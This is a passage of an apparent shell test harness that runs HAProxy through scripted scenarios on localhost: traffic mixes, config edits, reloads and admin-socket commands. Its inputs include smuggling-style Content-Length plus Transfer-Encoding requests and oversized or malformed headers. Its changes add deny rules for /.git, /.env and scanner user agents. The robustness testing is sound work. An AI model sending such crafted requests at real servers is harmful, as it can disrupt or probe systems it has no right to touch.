  for i in $(seq $((1 + r % 3)) 3 60); do paths+=("/page$i.html"); done
  for i in $(seq $((1 + r % 5)) 5 30); do paths+=("/static/$i.bin"); done
  heldout7_get "$HAPROXY_PORT" "${paths[@]}"
  a=$(heldout7_addr 2)
  case $((r % 6)) in
    0) curl -s --interface "$a" "$u/static/$((40 + r)).bin" ;;
    1) heldout3_raw "$HAPROXY_PORT" "$a" 'GET /page3.html HTTP/1.0\r\n\r\n' ;;
    2) heldout3_raw "$HAPROXY_PORT" "$a" 'G(T / HTTP/1.1\r\nHost: x\r\n\r\n' ;;
    3) curl -s --interface "$a" -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' \
         -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' "$u/api/stream" ;;
    4) curl -s --interface "$a" --max-time 0.05 --limit-rate 2k "$u/static/7.bin" ;;
    5) curl -s --interface "$a" -I "$u/api/status" ;;
  esac >/dev/null 2>&1 || true
}
haproxy_heldout7_maint() {
  local c
  for c in "show env" "show startup-logs" "show cli sockets" "show fd"; do haproxy_sock "$c"; done
}
haproxy_heldout7_change() {
  local conf=$HAPROXY_DIR/conf/haproxy.cfg
  sed -i 's|^  timeout server 10s$|&\n  timeout http-keep-alive 2s\n  option forwardfor|' "$conf"
  sed -i 's|^  default_backend site$|  http-response set-header X-Frame-Options SAMEORIGIN\n&|' "$conf"
  sed -i 's|^  balance roundrobin$|&\n  compression algo gzip\n  compression type text/html|' "$conf"
  if ! grep -q 'compression algo gzip' "$conf" || ! grep -q 'X-Frame-Options' "$conf"; then die "haproxy heldout7: config not changed"; fi
  admin haproxy root /usr/sbin/haproxy -c -f "$conf"
  kill -USR2 "$HAPROXY_PID"
  until_ok haproxy_heldout7_framed
}
# haproxy_heldout7_framed: answers come with the reload's X-Frame-Options header.
haproxy_heldout7_framed() { curl -sI "http://127.0.0.1:$HAPROXY_PORT/index.html" | grep -qi '^x-frame-options: sameorigin'; }
haproxy_heldout7_late() {
  echo "add server site/s3 127.0.0.1:${BACKEND_PORTS[2]}" | socat stdio "unix-connect:$HAPROXY_RUN/admin.sock" |
    grep -q 'New server registered' || die "haproxy heldout7: add server failed"
  haproxy_sock "enable server site/s3"
  HELDOUT7_ROUND=$((HELDOUT7_ROUND + 1))
  haproxy_heldout7_mix
  haproxy_sock "disable server site/s3"
  haproxy_sock "del server site/s3"
}

# Held out, eighth set (heldout8). No deploy. Clients from 127.0.6.1-250 for every fourth
# page and every sixth static file (another offset each round), the API; each round one
# more request in turn: a 20 kB query string (too large for haproxy's buffer), a chunked
# 200 kB POST (the backends refuse POST), a Host header with spaces (400),
# HTTP/2 with prior knowledge, a client that sends half a request line and hangs up after
# 0.5 s, `OPTIONS *`. The maintenance, on the admin socket: `show stat -1 4 -1` (the
# servers' lines only), `show resolvers`, `show acl`, `show schema json`, `show info`. The
# change: requests for /.git and /.env denied (403), the site balanced by URI with
# consistent hashing, a per-server connection limit for s1; USR2 to the master from outside.
# The late event: server s2 moved at runtime to the api backend's port (`set server
# site/s2 addr ... port ...`) around a round of traffic, then moved back.
haproxy_heldout8_deploy() { :; }
haproxy_heldout8_mix() {
  local r=$HELDOUT8_ROUND i u=http://127.0.0.1:$HAPROXY_PORT a
  local paths=(/ /index.html /api/items /api/orders "/api/status?probe=$r")
  for i in $(seq $((1 + r % 4)) 4 60); do paths+=("/page$i.html"); done
  for i in $(seq $((1 + r % 6)) 6 30); do paths+=("/static/$i.bin"); done
  heldout8_get "$HAPROXY_PORT" "${paths[@]}"
  a=$(heldout8_addr 3)
  case $((r % 6)) in
    0) curl -s --interface "$a" "$u/page1.html?q=$(head -c 20000 /dev/zero | tr '\0' q)" ;;
    1) head -c 200000 /dev/zero | curl -s --interface "$a" -H 'Transfer-Encoding: chunked' --data-binary @- "$u/api/orders" ;;
    2) heldout3_raw "$HAPROXY_PORT" "$a" 'GET / HTTP/1.1\r\nHost: bad host name\r\n\r\n' ;;
    3) curl -s --interface "$a" --http2-prior-knowledge "$u/index.html" ;;
    4) heldout3_raw "$HAPROXY_PORT" "$a" 'GET /page2.ht' 0.5 ;;
    5) curl -s --interface "$a" -X OPTIONS --request-target '*' "$u/" ;;
  esac >/dev/null 2>&1 || true
}
haproxy_heldout8_maint() {
  local c
  for c in "show stat -1 4 -1" "show resolvers" "show acl" "show schema json" "show info"; do haproxy_sock "$c"; done
}
haproxy_heldout8_change() {
  local conf=$HAPROXY_DIR/conf/haproxy.cfg
  sed -i 's|^  default_backend site$|  http-request deny deny_status 403 if { path_beg /.git /.env }\n&|' "$conf"
  sed -i 's|^  balance roundrobin$|  balance uri\n  hash-type consistent|' "$conf"
  sed -i "s|^  server s1 127.0.0.1:${BACKEND_PORTS[0]} check inter 2s$|& maxconn 40|" "$conf"
  if ! grep -q 'hash-type consistent' "$conf" || ! grep -q 'maxconn 40' "$conf"; then die "haproxy heldout8: config not changed"; fi
  kill -USR2 "$HAPROXY_PID"
  until_ok haproxy_heldout8_denied
}
# haproxy_heldout8_denied: /.git is refused by the reloaded configuration.
haproxy_heldout8_denied() {
  [ "$(curl -s -o /dev/null -w '%{http_code}' "http://127.0.0.1:$HAPROXY_PORT/.git/config")" = 403 ]
}
haproxy_heldout8_late() {
  haproxy_sock "set server site/s2 addr 127.0.0.1 port ${BACKEND_PORTS[2]}"
  HELDOUT8_ROUND=$((HELDOUT8_ROUND + 1))
  haproxy_heldout8_mix
  haproxy_sock "set server site/s2 addr 127.0.0.1 port ${BACKEND_PORTS[1]}"
}

# Held out, ninth set (heldout9). No deploy. Clients from 127.0.7.1-250 for every eighth
# page and every seventh static file (another offset each round), the API with a page
# number; each round one more request in turn: a header name with a space in it (400), a
# 300 kB PATCH the backends refuse (501), a negative Content-Length (400), a request line
# in absolute form (as a proxy sends it), two requests pipelined on one connection, a byte
# range of a static file. The maintenance, on the admin socket: `show peers`, `show
# profiling`, `show events`, `show trace`, `help`. The change: paths under /v2/ rewritten to
# the site's (`http-request replace-path`), `option http-server-close`, an X-Served-By
# header with the server's name on every response, `timeout client 20s`; USR2 to the master
# from outside. The late event: the API server taken out for a deploy on the admin socket
# (`set server api/a1 state maint`, `shutdown sessions server api/a1`) around a round of
# traffic (the API answers 503), then made ready again.
haproxy_heldout9_deploy() { :; }
HAPROXY_HELDOUT9_V2=0
haproxy_heldout9_mix() {
  local r=$HELDOUT9_ROUND i u=http://127.0.0.1:$HAPROXY_PORT a pre=
  [ "$HAPROXY_HELDOUT9_V2" = 0 ] || pre=/v2
  local paths=(/ "/api/items?page=$((1 + r % 9))" /api/status)
  for i in $(seq $((1 + r % 8)) 8 60); do paths+=("$pre/page$i.html"); done
  for i in $(seq $((1 + r % 7)) 7 30); do paths+=("/static/$i.bin"); done
  heldout9_get "$HAPROXY_PORT" "${paths[@]}"
  a=$(heldout9_addr 3)
  case $((r % 6)) in
    0) heldout3_raw "$HAPROXY_PORT" "$a" 'GET /page3.html HTTP/1.1\r\nHost: x\r\nBad Header: 1\r\n\r\n' ;;
    1) head -c 300000 /dev/zero | curl -s --interface "$a" -X PATCH --data-binary @- "$u/api/items" ;;
    2) heldout3_raw "$HAPROXY_PORT" "$a" 'POST /api/items HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n' ;;
    3) heldout3_raw "$HAPROXY_PORT" "$a" "GET http://127.0.0.1:$HAPROXY_PORT/page$((1 + r % 60)).html HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n" ;;
    4) heldout3_raw "$HAPROXY_PORT" "$a" 'GET /page4.html HTTP/1.1\r\nHost: x\r\n\r\nGET /static/4.bin HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n' ;;
    5) curl -s --interface "$a" -r 100-299 "$u/static/$((1 + r % 30)).bin" ;;
  esac >/dev/null 2>&1 || true
}
haproxy_heldout9_maint() {
  local c
  for c in "show peers" "show profiling" "show events" "show trace" "help"; do haproxy_sock "$c"; done
}
haproxy_heldout9_change() {
  local conf=$HAPROXY_DIR/conf/haproxy.cfg
  sed -i 's|^  acl is_api path_beg /api/$|  http-request replace-path ^/v2/(.*) /\\1\n  http-after-response set-header X-Served-By %s\n&|' "$conf"
  sed -i 's|^  timeout client 10s$|  timeout client 20s\n  option http-server-close|' "$conf"
  if ! grep -q 'replace-path' "$conf" || ! grep -q 'http-server-close' "$conf"; then die "haproxy heldout9: config not changed"; fi
  kill -USR2 "$HAPROXY_PID"
  until_ok curl -sf "http://127.0.0.1:$HAPROXY_PORT/v2/page1.html"
  HAPROXY_HELDOUT9_V2=1
}
haproxy_heldout9_late() {
  haproxy_sock "set server api/a1 state maint"
  haproxy_sock "shutdown sessions server api/a1"
  HELDOUT9_ROUND=$((HELDOUT9_ROUND + 1))
  haproxy_heldout9_mix
  haproxy_sock "set server api/a1 state ready"
  until_ok curl -sf "http://127.0.0.1:$HAPROXY_PORT/api/status"
}

# Held out, tenth set (heldout10). No deploy. Clients from 127.0.8.1-250 for every ninth
# page and every fifth static file (another offset each round), the API's orders and status;
# each round one more request in turn: a 20 kB URI (414), a POST with both Transfer-Encoding:
# chunked and a Content-Length, DELETE on the API (the backend refuses it: 501), a WebSocket
# upgrade request to the API, a client that sends half a request line and hangs up, HTTP/2
# with prior knowledge (an h2 preface on the frontend). The change, early: a `static`
# backend for /static/ (both site servers, `balance uri`, `maxconn 20` each), `option
# forwardfor` and `retries 2`, USR2 to the master from outside. The late event, on the
# admin socket: s2 of the site at a quarter of its weight and its health checks disabled
# around a round of traffic, then both back. The maintenance, on the admin socket: `show
# stat`, `show servers conn`, `show pools`, `show activity`, `show tasks`.
haproxy_heldout10_deploy() { :; }
haproxy_heldout10_mix() {
  local r=$HELDOUT10_ROUND i u=http://127.0.0.1:$HAPROXY_PORT a
  local paths=(/ /api/orders /api/status)
  for i in $(seq $((1 + r % 9)) 9 60); do paths+=("/page$i.html"); done
  for i in $(seq $((1 + r % 5)) 5 30); do paths+=("/static/$i.bin"); done
  heldout10_get "$HAPROXY_PORT" "${paths[@]}"
  a=$(heldout10_addr 4)
  case $((r % 6)) in
    0) curl -s --interface "$a" "$u/page1.html?q=$(head -c 20000 /dev/zero | tr '\0' q)" ;;
    1) heldout3_raw "$HAPROXY_PORT" "$a" 'POST /api/orders HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\nConnection: close\r\n\r\n5\r\nhello\r\n0\r\n\r\n' ;;
    2) curl -s --interface "$a" -X DELETE "$u/api/orders" ;;
    3) curl -s --interface "$a" -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' \
         -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' "$u/api/status" ;;
    4) heldout3_raw "$HAPROXY_PORT" "$a" 'GET /page2.ht' 0.3 ;;
    5) curl -s --interface "$a" --http2-prior-knowledge "$u/index.html" ;;
  esac >/dev/null 2>&1 || true
}
haproxy_heldout10_change() {
  local conf=$HAPROXY_DIR/conf/haproxy.cfg
  sed -i 's|^  timeout server 10s$|&\n  option forwardfor\n  retries 2|' "$conf"
  sed -i 's|^  use_backend api if is_api$|&\n  use_backend static if { path_beg /static/ }|' "$conf"
  cat >>"$conf" <<CONF

backend static
  balance uri
  option httpchk GET /health.html
  server st1 127.0.0.1:${BACKEND_PORTS[0]} check inter 2s maxconn 20
  server st2 127.0.0.1:${BACKEND_PORTS[1]} check inter 2s maxconn 20
CONF
  if ! grep -q 'use_backend static' "$conf" || ! grep -q '^  option forwardfor' "$conf"; then die "haproxy heldout10: config not changed"; fi
  kill -USR2 "$HAPROXY_PID"
  until_ok haproxy_heldout10_static
}
# haproxy_heldout10_static: the new backend is in the running configuration.
haproxy_heldout10_static() {
  echo "show stat" | socat stdio "unix-connect:$HAPROXY_RUN/admin.sock" | grep -q '^static,st1,'
}
haproxy_heldout10_maint() {
  local c
  for c in "show stat" "show servers conn" "show pools" "show activity" "show tasks"; do haproxy_sock "$c"; done
}
haproxy_heldout10_late() {
  haproxy_sock "set weight site/s2 25%"
  haproxy_sock "disable health site/s2"
  HELDOUT10_ROUND=$((HELDOUT10_ROUND + 1))
  haproxy_heldout10_mix
  haproxy_sock "enable health site/s2"
  haproxy_sock "set weight site/s2 100%"
}

# Held out, eleventh set (heldout11). No deploy. Clients from 127.0.9.1-250 for every
# seventh page and every fourth static file (another offset each round), the API's items
# and status, and, once the change is in, the API by its own host name; each round one more
# request in turn: a request with 110 header lines (400), a 400 kB POST to a static file
# (the backend refuses POST: 501), a CONNECT request, an HTTP/0.9 request line (400), a
# client that sends the headers of a 50 kB POST and hangs up after 0.4 s, the stats page as
# CSV. The maintenance, early, on the admin socket: `show info typed`, `show table`, `show
# profiling`, `show trace`, `show peers`. The change, in the middle: an ACL file of refused
# user agents (conf/bad-agents.acl, `http-request deny` with 403) and a map file that routes
# by host name (conf/hosts.map: api.shop.test to the api backend), USR2 to the master from
# outside; from then on the rounds send one request with a refused agent. The late event: a
# restart by a hard stop (TERM to the master: the connections cut) and a start, as a service
# manager's `restart` with a short timeout does.
HAPROXY_HELDOUT11_MAPS=0
haproxy_heldout11_deploy() { :; }
haproxy_heldout11_mix() {
  local r=$HELDOUT11_ROUND i u=http://127.0.0.1:$HAPROXY_PORT a h=()
  local paths=(/ /api/items /api/status)
  for i in $(seq $((1 + r % 7)) 7 60); do paths+=("/page$i.html"); done
  for i in $(seq $((1 + r % 4)) 4 30); do paths+=("/static/$i.bin"); done
  heldout11_get "$HAPROXY_PORT" "${paths[@]}"
  a=$(heldout11_addr 4)
  if [ "$HAPROXY_HELDOUT11_MAPS" = 1 ]; then
    curl -s --interface "$a" -H 'Host: api.shop.test' "$u/api/orders" -H 'User-Agent: zgrab/0.x' "$u/index.html" >/dev/null 2>&1 || true
  fi
  case $((r % 6)) in
    0) for i in $(seq 1 110); do h+=(-H "X-Tag-$i: $i"); done; curl -s --interface "$a" "${h[@]}" "$u/page3.html" ;;
    1) head -c 400000 /dev/zero | curl -s --interface "$a" --data-binary @- "$u/static/$((1 + r % 30)).bin" ;;
    2) heldout3_raw "$HAPROXY_PORT" "$a" 'CONNECT shop.test:443 HTTP/1.1\r\nHost: shop.test:443\r\n\r\n' ;;
    3) heldout3_raw "$HAPROXY_PORT" "$a" 'GET /page4.html\r\n' ;;
    4) heldout3_raw "$HAPROXY_PORT" "$a" 'POST /api/items HTTP/1.1\r\nHost: x\r\nContent-Length: 50000\r\n\r\n' 0.4 ;;
    5) curl -s --interface "$a" "http://127.0.0.1:$HAPROXY_STATS_PORT/stats;csv" ;;
  esac >/dev/null 2>&1 || true
}
haproxy_heldout11_maint() { haproxy_socks "show info typed" "show table" "show profiling" "show trace" "show peers"; }
haproxy_heldout11_change() {
  local conf=$HAPROXY_DIR/conf/haproxy.cfg
  printf '%s\n' zgrab masscan nikto sqlmap >"$HAPROXY_DIR/conf/bad-agents.acl"
  printf '%s\n' 'api.shop.test api' 'www.shop.test site' >"$HAPROXY_DIR/conf/hosts.map"
  sed -i "s|^  use_backend api if is_api\$|  http-request deny deny_status 403 if { req.hdr(user-agent) -m sub -i -f $HAPROXY_DIR/conf/bad-agents.acl }\n  use_backend %[req.hdr(host),lower,map($HAPROXY_DIR/conf/hosts.map)] if { req.hdr(host),lower,map($HAPROXY_DIR/conf/hosts.map) -m found }\n&|" "$conf"
  grep -q 'bad-agents.acl' "$conf" || die "haproxy heldout11: config not changed"
  kill -USR2 "$HAPROXY_PID"
  until_ok haproxy_heldout11_denied
  HAPROXY_HELDOUT11_MAPS=1
}
# haproxy_heldout11_denied: a refused agent gets 403.
haproxy_heldout11_denied() {
  [ "$(curl -s -o /dev/null -w '%{http_code}' -A 'nikto/2' "http://127.0.0.1:$HAPROXY_PORT/index.html")" = 403 ]
}
haproxy_heldout11_late() {
  stop_pid "$HAPROXY_PID" TERM
  haproxy_start
}

# Held out, twelfth set (heldout12). No deploy. Clients from 127.0.10.1-250 for every fifth
# page and every sixth static file (another offset each round) and the API's items and
# orders; each round one more request in turn: a 20 kB query string, a POST with both
# Content-Length and Transfer-Encoding, a 300 kB PUT to the API (the backend refuses it:
# 501), an HTTP/1.1 request without Host (400), a WebSocket upgrade request (the backend
# answers it as a plain GET), a 40 kB POST with `Expect: 100-continue`. The change, in the
# first seconds while the clients are busy: a per-address request-rate table in the
# frontend (`stick-table ... http_req_rate(10s)`, `track-sc0 src`, 429 above 2000
# requests) and a response header naming the frontend, the old file kept as
# haproxy.cfg.prev, USR2 to the master from outside. The maintenance, in the middle, on the
# admin socket: `show table web` (the new table), `show activity`, `show env`, `show pools`,
# `clear counters`. The late event: the change rolled back (haproxy.cfg.prev copied back,
# USR2 to the master).
haproxy_heldout12_deploy() { :; }
haproxy_heldout12_mix() {
  local r=$HELDOUT12_ROUND u=http://127.0.0.1:$HAPROXY_PORT a
  local paths=(/api/items /api/orders)
  mapfile -t -O "${#paths[@]}" paths < <(every_nth /page 5 60 "$r" .html; every_nth /static/ 6 30 "$r" .bin)
  heldout12_get "$HAPROXY_PORT" "${paths[@]}"
  a=$(heldout12_addr 4)
  case $((r % 6)) in
    0) curl -s --interface "$a" "$u/page1.html?q=$(head -c 20000 /dev/zero | tr '\0' q)" ;;
    1) heldout3_raw "$HAPROXY_PORT" "$a" 'POST /api/items HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n' ;;
    2) head -c 300000 /dev/zero | curl -s --interface "$a" -T - "$u/api/items" ;;
    3) heldout3_raw "$HAPROXY_PORT" "$a" 'GET /page2.html HTTP/1.1\r\nConnection: close\r\n\r\n' ;;
    4) curl -s --interface "$a" -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' \
         -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' "$u/api/status" ;;
    5) head -c 40000 /dev/zero | curl -s --interface "$a" -H 'Expect: 100-continue' --data-binary @- "$u/static/3.bin" ;;
  esac >/dev/null 2>&1 || true
}
haproxy_heldout12_change() {
  local conf=$HAPROXY_DIR/conf/haproxy.cfg
  cp "$conf" "$conf.prev"
  sed -i "s|^  bind 127.0.0.1:$HAPROXY_PORT\$|&\n  stick-table type ip size 10k expire 30s store http_req_rate(10s)\n  http-request track-sc0 src\n  http-request deny deny_status 429 if { sc_http_req_rate(0) gt 2000 }\n  http-response set-header X-Frontend web|" "$conf"
  grep -q 'track-sc0 src' "$conf" || die "haproxy heldout12: config not changed"
  kill -USR2 "$HAPROXY_PID"
  until_ok haproxy_heldout12_tagged
}
# haproxy_heldout12_tagged: answers carry the change's header.
haproxy_heldout12_tagged() { curl -sI "http://127.0.0.1:$HAPROXY_PORT/index.html" | grep -qi '^x-frontend: web'; }
haproxy_heldout12_maint() { haproxy_socks "show table web" "show activity" "show env" "show pools" "clear counters"; }
haproxy_heldout12_late() {
  cp "$HAPROXY_DIR/conf/haproxy.cfg.prev" "$HAPROXY_DIR/conf/haproxy.cfg"
  kill -USR2 "$HAPROXY_PID"
  until_ok heldout5_not haproxy_heldout12_tagged
}

# Held out, thirteenth set (heldout13). No deploy. Clients from 127.0.11.1-250 for every
# seventh page and every fourth static file (another offset each round), the home page and
# the API, and, once the change is in, the monitor page; one more request in turn: 120
# header lines (over haproxy's limit: 400), a path with a malformed percent escape, two Host
# headers that disagree (400), a 60 kB cookie, an HTTP/0.9 request line, a PATCH to the API
# (the backend refuses it). The maintenance, at the very start, on the admin socket: `show
# servers state`, `show servers conn`, `show threads`, `show tasks`, `show startup-logs`. The
# restart, in the middle: a hard stop (TERM) and a start. The change, late: a new log format
# for the frontend (`log-format` with the timers and the request) and a monitor page
# (`monitor-uri /healthz`), USR2 to the master from outside.
haproxy_heldout13_deploy() { :; }
HAPROXY_HELDOUT13_MONITOR=0
haproxy_heldout13_mix() {
  local r=$HELDOUT13_ROUND u=http://127.0.0.1:$HAPROXY_PORT a h=() i
  local paths=(/ /api/items /api/status)
  [ "$HAPROXY_HELDOUT13_MONITOR" = 0 ] || paths+=(/healthz)
  mapfile -t -O "${#paths[@]}" paths < <(every_nth /page 7 60 "$r" .html; every_nth /static/ 4 30 "$r" .bin)
  heldout13_get "$HAPROXY_PORT" "${paths[@]}"
  a=$(heldout13_addr 4)
  case $((r % 6)) in
    0) for i in $(seq 1 120); do h+=(-H "X-Pad-$i: $i"); done
       curl -s --interface "$a" "${h[@]}" "$u/page3.html" ;;
    1) curl -s --interface "$a" --path-as-is "$u/page%zz.html" ;;
    2) heldout3_raw "$HAPROXY_PORT" "$a" 'GET /page4.html HTTP/1.1\r\nHost: a.test\r\nHost: b.test\r\nConnection: close\r\n\r\n' ;;
    3) curl -s --interface "$a" -H "Cookie: s=$(head -c 60000 /dev/zero | tr '\0' c)" "$u/page5.html" ;;
    4) heldout3_raw "$HAPROXY_PORT" "$a" 'GET /\r\n' ;;
    5) curl -s --interface "$a" -X PATCH -d 'qty=2' "$u/api/orders" ;;
  esac >/dev/null 2>&1 || true
}
haproxy_heldout13_maint() {
  haproxy_socks "show servers state" "show servers conn" "show threads" "show tasks" "show startup-logs"
}
haproxy_heldout13_restart() { heldout13_restart haproxy HAPROXY_PID TERM; }
haproxy_heldout13_change() {
  local conf=$HAPROXY_DIR/conf/haproxy.cfg
  sed -i "s|^  bind 127.0.0.1:$HAPROXY_PORT\$|&\n  monitor-uri /healthz\n  log-format \"%ci:%cp [%tr] %ft %b/%s %TR/%Tw/%Tc/%Tr/%Ta %ST %B %{+Q}r\"|" "$conf"
  grep -q 'monitor-uri /healthz' "$conf" || die "haproxy heldout13: config not changed"
  kill -USR2 "$HAPROXY_PID"
  until_ok curl -sf "http://127.0.0.1:$HAPROXY_PORT/healthz"
  HAPROXY_HELDOUT13_MONITOR=1
}

# Held out, fourteenth set (heldout14). No deploy. Clients from 127.0.12.1-240 for every sixth
# page and every fifth static file (another offset each round), the home page and the API;
# one more request in turn: a 200 kB POST with `Expect: 100-continue` to the API (the backend
# refuses POST), an HTTP/1.0 request, a 6000-character query string, a DELETE to the API (the
# backend refuses it), HEAD of a static file, a request in absolute form
# (`GET http://127.0.0.1:18480/... HTTP/1.1`, as a forward proxy's client sends it). The
# change, early: two threads for the worker instead of one per CPU (`nbthread 2` in
# `global`), USR2 to the master from outside. The maintenance, in the middle while the load
# goes on, on the admin socket: `show stat typed`, `show sess all`, `show servers state
# api`. The reload, late: USR2 to the master with the configuration unchanged (as a
# certificate renewal's hook does). The tail: three long-lived keep-alive clients from
# 127.0.12.241-250, a page or a static file every ~1.2 s.
haproxy_heldout14_deploy() { :; }
haproxy_heldout14_mix() {
  local r=$HELDOUT14_ROUND u=http://127.0.0.1:$HAPROXY_PORT
  local paths=(/ /api/items /api/status)
  mapfile -t -O "${#paths[@]}" paths < <(every_nth /page 6 60 "$r" .html; every_nth /static/ 5 30 "$r" .bin)
  heldout14_get "$HAPROXY_PORT" "${paths[@]}"
  # The round's one more request, as curl's arguments (stdin: the upload, or nothing).
  local odd=()
  case $((r % 6)) in
    0) odd=(-H 'Expect: 100-continue' --data-binary @- "$u/api/orders") ;;
    1) odd=(--http1.0 "$u/page2.html") ;;
    2) odd=("$u/page7.html?q=$(head -c 6000 /dev/zero | tr '\0' q)") ;;
    3) odd=(-X DELETE "$u/api/items") ;;
    4) odd=(-I "$u/static/$((1 + r % 30)).bin") ;;
    5) heldout3_raw "$HAPROXY_PORT" "$(heldout14_addr 4)" "GET $u/page1.html HTTP/1.1\r\nHost: 127.0.0.1:$HAPROXY_PORT\r\nConnection: close\r\n\r\n"
       return ;;
  esac
  head -c $((r % 6 == 0 ? 200000 : 0)) /dev/urandom | heldout14_curl 4 "${odd[@]}"
}
haproxy_heldout14_change() {
  local conf=$HAPROXY_DIR/conf/haproxy.cfg
  sed -i 's|^  maxconn 512$|&\n  nbthread 2|' "$conf"
  grep -q '^  nbthread 2$' "$conf" || die "haproxy heldout14: config not changed"
  heldout14_reload USR2 "$HAPROXY_PID" haproxy_heldout14_threads
}
# haproxy_heldout14_threads: the worker runs two threads.
haproxy_heldout14_threads() {
  echo "show info" | socat stdio "unix-connect:$HAPROXY_RUN/admin.sock" | grep -qx 'Nbthread: 2'
}
haproxy_heldout14_maint() { haproxy_socks "show stat typed" "show sess all" "show servers state api"; }
haproxy_heldout14_reload() { heldout14_reload USR2 "$HAPROXY_PID" curl -sf "http://127.0.0.1:$HAPROXY_PORT/index.html"; }
haproxy_heldout14_tail() {
  heldout14_linger "$HAPROXY_PORT" "$1" / /page5.html /static/3.bin /page21.html /api/status /page44.html \
    /static/17.bin /page9.html
}

# Held out, fifteenth set (heldout15). No deploy. Clients from 127.0.14.1-250 for every
# seventh page and every fourth static file (another offset each round), the home page and
# the API; one more client in turn (heldout15_odd, as for nginx). The maintenance, first,
# while the full load is on: a candidate configuration (a longer client timeout and a 1 s
# keep-alive timeout) checked by the operator inside the cgroup (`haproxy -c -f
# conf/haproxy.cfg.next`, root), and the admin socket's `show errors` and `show fd`. The
# restart, in the middle: haproxy has no stop command of its own; a soft stop (USR1, as
# `haproxy_stop`), its configuration checked inside the cgroup (`haproxy -c`, as Debian's
# unit does before a start) and a start. The change, last: the checked configuration
# installed, USR2 to the master from outside.
haproxy_heldout15_deploy() { :; }
haproxy_heldout15_mix() {
  local r=$HELDOUT15_ROUND
  local paths=(/ /api/items /api/status)
  mapfile -t -O "${#paths[@]}" paths < <(every_nth /page 7 60 "$r" .html; every_nth /static/ 4 30 "$r" .bin)
  heldout15_get "$HAPROXY_PORT" "${paths[@]}"
  heldout15_odd "$HAPROXY_PORT" /page3.html "/static/$((1 + r % 30)).bin"
}
haproxy_heldout15_maint() {
  local conf=$HAPROXY_DIR/conf/haproxy.cfg
  sed -e 's|^  timeout client 10s$|  timeout client 30s\n  timeout http-keep-alive 1s|' "$conf" >"$conf.next"
  grep -q 'timeout http-keep-alive 1s' "$conf.next" || die "haproxy heldout15: the candidate was not written"
  admin haproxy root /usr/sbin/haproxy -c -q -f "$conf.next"
  haproxy_socks "show errors" "show fd"
}
haproxy_heldout15_restart() {
  heldout15_checked_restart haproxy admin haproxy root /usr/sbin/haproxy -c -q -f "$HAPROXY_DIR/conf/haproxy.cfg"
}
haproxy_heldout15_change() {
  cp "$HAPROXY_DIR/conf/haproxy.cfg.next" "$HAPROXY_DIR/conf/haproxy.cfg"
  heldout14_reload USR2 "$HAPROXY_PID" curl -sf "http://127.0.0.1:$HAPROXY_PORT/index.html"
}

# Held out, sixteenth set (heldout16). No deploy. Clients from 127.0.16.1-250 for every
# eighth page and every fifth static file (another offset each round), the API, the home
# page and the two most read pages; in the quiet start one slow client (heldout16_get); one more client in turn
# (heldout16_odd, as for nginx). The change, early: a request id for every request
# (`unique-id-format`, sent to the backends as `X-Request-ID`) and the client's address
# forwarded, USR2 to the master from outside (the unit's reload). The second change, two
# thirds in: a small HTTP cache for the site's pages (a `cache` section, `cache-use` and
# `cache-store` in the site's backend), USR2 again. The maintenance, last, on the admin
# socket: `show cache`, `show startup-logs`, `show profiling` and `clear counters all` (the
# statistics reset). Then a clean shutdown (USR1: a soft stop).
haproxy_heldout16_deploy() { :; }
haproxy_heldout16_mix() {
  local r=$HELDOUT16_ROUND paths=()
  mapfile -t paths < <(every_nth /page 8 60 "$r" .html)
  mapfile -t -O "${#paths[@]}" paths < <(every_nth /static/ 5 30 "$r" .bin)
  # The API, and the most read pages (which the cache, once it is in, answers itself).
  paths+=(/api/items /api/status / /page1.html /page2.html)
  heldout16_get "$HAPROXY_PORT" "${paths[@]}"
  heldout16_odd "$HAPROXY_PORT" /page6.html
}
haproxy_heldout16_change() {
  local conf=$HAPROXY_DIR/conf/haproxy.cfg
  sed -i 's|^  bind 127.0.0.1:'"$HAPROXY_PORT"'$|&\n  unique-id-format %{+X}o\\ %ci:%cp_%fi:%fp_%Ts_%rt\n  unique-id-header X-Request-ID\n  option forwardfor|' "$conf"
  grep -q 'unique-id-header X-Request-ID' "$conf" || die "haproxy heldout16: config not changed"
  heldout14_reload USR2 "$HAPROXY_PID" curl -sf "http://127.0.0.1:$HAPROXY_PORT/index.html"
}
haproxy_heldout16_second() {
  local conf=$HAPROXY_DIR/conf/haproxy.cfg
  printf '\ncache pages\n  total-max-size 4\n  max-age 30\n' >>"$conf"
  sed -i 's|^  balance roundrobin$|&\n  http-request cache-use pages\n  http-response cache-store pages|' "$conf"
  grep -q 'cache-store pages' "$conf" || die "haproxy heldout16: config not changed"
  heldout14_reload USR2 "$HAPROXY_PID" curl -sf "http://127.0.0.1:$HAPROXY_PORT/index.html"
}
haproxy_heldout16_maint() { haproxy_socks "show cache" "show startup-logs" "show profiling" "clear counters all"; }

# Held out, seventeenth set (heldout17). No deploy but the clients' /24 (127.0.23.1-250). A
# cold start under load: haproxy starts inside the recording while clients already retry
# (heldout17_begin). Clients for every eleventh page and every third static file (another
# offset each round), the home page and the API, as many at a time as the slow wave's load;
# one more client in turn (heldout17_odd, as for nginx: a page, a static file, eight at once
# on the first page, a form posted with a chunked body to the API, which the backend
# refuses). The maintenance, early, on the admin socket: the statistics and the process
# information archived into a dated directory (`show stat`, `show info` saved as
# stats/YYYYMMDD/*). The change, in the middle, by a full restart (the servers' state saved
# with `show servers state` into state/servers.state, as haproxy's documentation does before
# a restart; a soft stop, USR1, and a start) with a configuration of another shape: the saved
# state loaded at the start (`server-state-file`, `load-server-state-from-file global`),
# servers brought in slowly (`default-server slowstart 5s`), health checks spread
# (`spread-checks 4`), and the log kept in an in-memory ring as well (a `ring applog` section,
# `log ring@applog`). The maintenance, late, while the load falls: the ring's log lines read
# on the admin socket (`show events applog`) and the servers' state saved again. The
